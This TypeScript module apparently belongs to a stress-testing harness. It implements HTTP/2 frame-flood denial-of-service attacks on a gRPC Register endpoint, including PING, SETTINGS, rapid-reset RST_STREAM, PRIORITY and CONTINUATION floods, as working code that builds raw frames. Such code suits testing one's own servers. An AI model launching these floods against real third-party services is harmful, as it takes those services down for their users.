import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  helloFrames,
  text,
  uint32,
} from "../../wire/raw-frames.js";
import { type Attack, flood } from "./attack.js";

const CHUNK_FRAMES = 500;
const REGISTER = "/pulse.v1.RegistryService/Register";
const again = (one: Buffer) => {
  const chunk = Buffer.concat(Array(CHUNK_FRAMES).fill(one));
  return () => () => chunk;
};

/** New streams, each begun by what `of` makes. */
function streams(of: (stream: number) => readonly Buffer[]): () => () => Buffer {
  return () => {
    let stream = -1;
    return () => {
      const frames: Buffer[] = [];
      for (let n = 0; n < CHUNK_FRAMES / 2; n++) {
        stream += 2;
        frames.push(...of(stream));
      }
      return Buffer.concat(frames);
    };
  };
}

/** Frames that come after one call was begun on stream 1. */
function onOneCall(one: Buffer): () => () => Buffer {
  const begin = frame(FRAME.headers, END_HEADERS, 1, callHeaders(REGISTER));
  const chunk = Buffer.concat(Array(CHUNK_FRAMES).fill(one));
  return () => {
    let isBegun = false;
    return () => {
      if (isBegun) return chunk;
      isBegun = true;
      return begin;
    };
  };
}

const call = callHeaders(REGISTER);

const FORMS: Readonly<Record<string, () => () => Buffer>> = {
  PING: again(frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  SETTINGS: again(frame(FRAME.settings, 0, 0, Buffer.from([0, 4, ...uint32(65_535)]))),
  "empty SETTINGS": again(frame(FRAME.settings, 0, 0)),
  RST_STREAM: streams((stream) => [
    frame(FRAME.headers, END_HEADERS, stream, call),
    frame(FRAME.reset, 0, stream, Buffer.from(uint32(8))),
  ]),
  "RST_STREAM by its own mistakes": streams((stream) => [
    frame(FRAME.headers, END_HEADERS, stream, call),
    frame(FRAME.windowUpdate, 0, stream, Buffer.from(uint32(0))),
  ]),
  "empty calls": streams((stream) => [
    frame(FRAME.headers, END_HEADERS | END_STREAM, stream, call),
  ]),
  WINDOW_UPDATE: onOneCall(frame(FRAME.windowUpdate, 0, 1, Buffer.from(uint32(1)))),
  PRIORITY: again(frame(FRAME.priority, 0, 1, Buffer.from([...uint32(0), 16]))),
  "PRIORITY of many streams": streams((stream) => [
    frame(FRAME.priority, 0, stream, Buffer.from([...uint32(0), 16])),
  ]),
  "empty DATA": onOneCall(frame(FRAME.data, 0, 1)),
  "padded DATA": onOneCall(frame(FRAME.data, 8, 1, Buffer.from([0]))),
  CONTINUATION: onOneCall(Buffer.alloc(0)),
  unknown: again(frame(0x42, 0, 0, Buffer.alloc(8))),
  "HEADERS without end": () => {
    let isBegun = false;
    const chunk = Buffer.concat(
      Array(CHUNK_FRAMES).fill(
        frame(FRAME.continuation, 0, 1, Buffer.concat([Buffer.from([0]), text("x"), text("y")])),
      ),
    );
    return () => {
      if (isBegun) return chunk;
      isBegun = true;
      return frame(FRAME.headers, 0, 1, call);
    };
  },
};
export const FRAME_FLOODS = Object.keys(FORMS).filter((form) => form !== "CONTINUATION");

/** Frames that cost the sender nothing, as fast as they are taken. */
export const frames: Attack = async (config, harvest) => {
  const [form = "", reading] = config.form?.split(", ") ?? [];
  const chunks = FORMS[form];
  if (!chunks) throw new Error(`there is no flood of ${form}`);
  for (let n = 0; n < config.count; n++)
    flood(config, harvest, helloFrames(), chunks, { reads: reading !== "unread" });
};
